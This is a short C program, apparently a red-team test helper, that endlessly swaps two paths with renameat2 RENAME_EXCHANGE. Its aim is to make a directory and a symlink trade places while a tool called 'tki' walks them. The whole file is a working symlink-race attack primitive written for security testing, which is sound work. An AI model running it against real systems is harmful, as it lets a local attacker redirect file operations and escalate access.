/* Round-5 red-team helper (a hostile local user on the host): swaps two paths atomically, forever
 * (renameat2 RENAME_EXCHANGE), so that a directory and a symlink trade places while tki walks them. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <linux/fs.h>
#include <sys/syscall.h>
#include <unistd.h>

int main(int argc, char **argv) {
  if (argc != 3) return 2;
  for (;;) syscall(SYS_renameat2, AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE);
}
